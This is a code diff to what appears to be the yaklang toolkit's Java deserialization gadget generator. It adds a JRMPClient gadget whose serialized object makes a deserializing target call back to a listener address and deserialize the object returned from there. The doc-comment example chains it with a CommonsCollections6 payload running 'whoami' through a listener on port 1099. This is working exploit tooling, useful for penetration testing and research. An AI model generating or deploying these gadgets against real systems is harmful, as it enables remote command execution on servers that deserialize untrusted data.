@@ -1,6 +1,7 @@
 package yso
 
 import (
+	"bytes"
 	"fmt"
 	"github.com/yaklang/yaklang/common/utils"
 	"github.com/yaklang/yaklang/common/yserx"
@@ -31,6 +32,7 @@ const (
 	JavassistWeld1GadgetName          = "JavassistWeld1"
 	Jdk7u21GadgetName                 = "Jdk7u21"
 	Jdk8u20GadgetName                 = "Jdk8u20"
+	JRMPClientGadgetName              = "JRMPClient"
 	URLDNS                            = "URLDNS"
 	FindGadgetByDNS                   = "FindGadgetByDNS"
 	FindClassByBomb                   = "FindClassByBomb"
@@ -44,6 +46,8 @@ type GadgetInfo struct {
 	Help            string
 	YakFun          string
 	SupportTemplate bool
+	// Format is the serialization format of payload, such as java, hessian, xstream
+	Format string
 }
 
 func (g *GadgetInfo) GetNameVerbose() string {
@@ -58,6 +62,9 @@ func (g *GadgetInfo) GetHelp() string {
 func (g *GadgetInfo) IsSupportTemplate() bool {
 	return g.SupportTemplate
 }
+func (g *GadgetInfo) GetFormat() string {
+	return g.Format
+}
 
 var AllGadgets = map[string]*GadgetInfo{
 	//BeanShell1GadgetName:              {Name: BeanShell1GadgetName, NameVerbose: "BeanShell1", Help: "", SupportTemplate: false},
@@ -113,8 +120,13 @@ func init() {
 	RegisterGadget(GetJdk8u20JavaObject, Jdk8u20GadgetName, "Jdk8u20", "")
 	RegisterGadget(GetURLDNSJavaObject, URLDNS, URLDNS, "")
 	RegisterGadget(GetFindGadgetByDNSJavaObject, FindGadgetByDNS, FindGadgetByDNS, "")
+	RegisterGadget(GetJRMPClientJavaObject, JRMPClientGadgetName, "JRMPClient", "makes a jrmp call to the remote registry, use it with the jrmp listener of facades")
 }
 func RegisterGadget(f any, name string, verbose string, help string) {
+	AllGadgets[name] = newGadgetInfo(f, name, verbose, help)
+}
+
+func newGadgetInfo(f any, name string, verbose string, help string) *GadgetInfo {
 	var supportTemplate = false
 	funType := reflect.TypeOf(f)
 	if funType.IsVariadic() && funType.NumIn() == 1 && funType.In(0).Kind() == reflect.Slice && funType.Kind() == reflect.Func {
@@ -126,7 +138,7 @@ func RegisterGadget(f any, name string, verbose string, help string) {
 			panic("gadget function must be func(options ...GenClassOptionFun) (*JavaObject, error) or func(cmd string) (*JavaObject, error)")
 		}
 	}
-	AllGadgets[name] = &GadgetInfo{
+	return &GadgetInfo{
 		Name:            name,
 		NameVerbose:     verbose,
 		Generator:       f,
@@ -134,6 +146,7 @@ func RegisterGadget(f any, name string, verbose string, help string) {
 		Help:            help,
 		SupportTemplate: supportTemplate,
 		YakFun:          fmt.Sprintf("Get%sJavaObject", name),
+		Format:          FormatJavaSerialization,
 	}
 }
 
@@ -722,6 +735,50 @@ func GetURLDNSJavaObject(url string) (*JavaObject, error) {
 	}), nil
 }
 
+// GetJRMPClientJavaObject generates a Java object of registry proxy, which references to the remote object at the jrmp address.
+// The target makes a dgc call to the address during deserialization, and deserializes the exception returned by the jrmp listener.
+// addr: The address of jrmp listener, in the format of host:port.
+// Return: Return the constructed Java object and nil error on success, return nil and corresponding error on failure.
+// Example:
+// ```
+// obj, _ = yso.GetCommonsCollections6JavaObject("whoami")
+// server = facades.NewFacadeServer("0.0.0.0", 1099, facades.jrmpPayload(obj))
+// go server.ServeWithContext(context.Background())
+// javaObject, _ = yso.GetJRMPClientJavaObject("127.0.0.1:1099")
+// gadgetBytes, _ = yso.ToBytes(javaObject)
+// ```
+func GetJRMPClientJavaObject(addr string) (*JavaObject, error) {
+	host, port, err := utils.ParseStringToHostPort(addr)
+	if err != nil {
+		return nil, utils.Errorf("parse jrmp address %#v failed: %s", addr, err)
+	}
+	// the UnicastRef external data: ref type, host, port, ObjID and the flag of result stream
+	origin := []byte("\x77\x2f\x00\x0aUnicastRef\x00\x06whoami\x00\x00\x39\x05")
+	index := bytes.Index(template_ser_JRMPClient, origin)
+	if index < 0 {
+		return nil, utils.Error("invalid JRMPClient template")
+	}
+	// ObjID(22) + flag(1)
+	tail := template_ser_JRMPClient[index+len(origin) : index+len(origin)+23]
+	var ref bytes.Buffer
+	for _, str := range []string{"UnicastRef", host} {
+		ref.Write(yserx.IntTo2Bytes(len(str)))
+		ref.WriteString(str)
+	}
+	ref.Write(yserx.IntTo4Bytes(port))
+	ref.Write(tail)
+
+	var raw []byte
+	raw = append(raw, template_ser_JRMPClient[:index]...)
+	raw = append(raw, yserx.NewJavaBlockDataBytes(ref.Bytes()).Marshal()...)
+	raw = append(raw, template_ser_JRMPClient[index+len(origin)+23:]...)
+	obj, err := yserx.ParseFromBytes(raw)
+	if err != nil {
+		return nil, err
+	}
+	return verboseWrapper(obj, AllGadgets[JRMPClientGadgetName]), nil
+}
+
 // GetFindGadgetByDNSJavaObject detects the CLass Name through DNSLOG and then detects the Gadget.
 // uses the predefined FindGadgetByDNS serialization template, and then replaces the preset URL placeholder in the serialized object with the provided URL string.
 // url: URL string to be set in the generated Java object.
@@ -835,7 +892,7 @@ func GetAllGadget() []interface{} {
 func GetAllTemplatesGadget() []TemplatesGadget {
 	var alGadget []TemplatesGadget
 	for _, gadget := range AllGadgets {
-		if gadget.SupportTemplate {
+		if gadget.SupportTemplate && gadget.Format == FormatJavaSerialization {
 			alGadget = append(alGadget, gadget.Generator.(func(options ...GenClassOptionFun) (*JavaObject, error)))
 		}
 	}
@@ -863,7 +920,7 @@ func GetAllTemplatesGadget() []TemplatesGadget {
 func GetAllRuntimeExecGadget() []RuntimeExecGadget {
 	var alGadget []RuntimeExecGadget
 	for _, gadget := range AllGadgets {
-		if !gadget.SupportTemplate {
+		if !gadget.SupportTemplate && gadget.Format == FormatJavaSerialization {
 			alGadget = append(alGadget, gadget.Generator.(func(cmd string) (*JavaObject, error)))
 		}
 	}